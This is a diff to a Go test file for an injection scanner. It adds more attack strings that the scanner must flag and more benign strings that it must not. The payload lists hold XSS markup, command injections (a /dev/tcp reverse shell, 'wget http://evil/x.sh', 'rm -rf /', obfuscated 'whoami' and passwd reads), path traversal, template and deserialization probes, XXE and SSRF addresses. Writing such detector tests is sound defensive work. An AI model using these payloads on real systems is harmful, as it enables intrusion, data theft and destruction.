@@ -26,20 +26,24 @@ func TestPayloads(t *testing.T) {
 		Markup: {
 			"<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", `"><script src=//evil>`, `" onmouseover="alert(1)`,
 			"javascript:alert(document.cookie)", "<a href=javascript:alert(1)>x</a>", "<iframe src=//evil></iframe>", "<body ONLOAD = alert(1)>", "<details open ontoggle=alert(1)>",
+			`<meta http-equiv="refresh" content="0;url=//evil">`, "<base href=//evil>", "<style>@import '//evil/x.css'</style>", `<span datasrc="#x" dataformatas="html">`,
 		},
 		Command: {
 			"; cat /etc/passwd", "| whoami", "x && wget http://evil/x.sh", "$(id)", "a`id`", "8.8.8.8; rm -rf /", "x|/bin/sh", "${IFS}cat", "bash -i >& /dev/tcp/10.0.0.1/80",
-			"|| ping -c 1 evil", "$(curl http://evil)", "; ls",
+			"|| ping -c 1 evil", "$(curl http://evil)", "; ls", ";'rm' -rf x", "x;w'h'o'am'i", "a && cu$@rl evil", `a | c\at x`, "/???/c?t /?tc/pa[s]swd", "x;less /etc/[p]asswd",
+			`& for /f "delims=" %i in ('whoami') do x`, "x<?php system($_GET['c']); ?>", "/bi[n]/bash",
 		},
 		Path: {
 			"../../../../etc/passwd", `..\..\..\windows\win.ini`, "....//....//....//etc/shadow", "/etc/passwd", `C:\Windows\system32\config`, "php://filter/convert.base64-encode/resource=index.php",
+			"./.././../../etc/passwd", "%2e%2e/x", "%c0%ee%c0%ee%u2216etc%u2216passwd", "..%01/..%01/etc/issue", "%25c0%25ae%25c0%25ae/x",
 		},
 		Template: {
 			"{{7*7}}", "${7*7}", "{{config.items()}}", "{{''.__class__.__mro__}}", "<%= 7*7 %>", "${jndi:ldap://evil/a}", "#{7*7}", "{% import os %}{{os.system('id')}}",
+			`{"__proto__": {"admin": true}}`, "java.lang.Runtime.getRuntime()", "org.x.InvokerTransformer",
 		},
 		Address: {
 			"http://169.254.169.254/latest/meta-data", "http://127.0.0.1/", "http://2130706433/", "http://0x7f.1/", "http://0177.0.0.1/", "http://[::1]:80/", "http://[::ffff:10.0.0.1]/",
-			"http://localhost:8080/admin", "http://example.com@127.0.0.1/", "gopher://127.0.0.1:6379/_INFO", "file:///etc/passwd", "http://10.0.0.1.nip.io/", "http://metadata.google.internal/",
+			"http://localhost:8080/admin", "http://example.com@127.0.0.1/", "gopher://127.0.0.1:6379/_INFO", "file:///etc/passwd", "http://10.0.0.1.nip.io/", "http://metadata.google.internal/", `<!ENTITY x SYSTEM "http://evil/x.dtd">`,
 		},
 	} {
 		for _, text := range texts {
@@ -56,6 +60,8 @@ func TestHarmless(t *testing.T) {
 		"https://example.com/a?b=1&id=2", "import x from '../../src/x'", "He said 'yes' and 'no'.", "a < b && c > d", "The O'Brien and O'Neill families", "JavaScript: the good parts",
 		"see section 1; more in section 2; at last the end", "if (a) { b(); }", "price: 5 * 3", "http://8.8.8.8/", "https://docs.python.org", "version 1.2.3.4", "", "'", "<", "$", "{{", "..", "://",
 		"She's here; find her & tell John | Mary", "git log | head -5", "R&D at AT&T", "<b>bold</b> and <p>text</p>", "x = y - z -- a comment", "Tom's and Jerry's -- both cats",
+		"I'd like it; she'd, too", "what? /path/to?x=1 /etc/ /usr/bin", "50 % in (a) do", "<?xml version='1.0'?><a/>", "<!DOCTYPE html>", "<style>p { color: red }</style>", "<meta charset=utf-8>",
+		"the prototype and __init__.py",
 	} {
 		for _, f := range Scan([]byte(text), 0, nil) {
 			if f.Strength >= 0.8 {
@@ -115,7 +121,7 @@ func FuzzScan(f *testing.F) {
 		if len(all) > maxFindings {
 			t.Fatal("too many")
 		}
-		for _, x := range all {
+		for _, x := range Value(text, all) {
 			if x.Start < 0 || x.Start >= x.End || x.Strength <= 0 || x.Strength > 1 {
 				t.Fatalf("%+v", x)
 			}
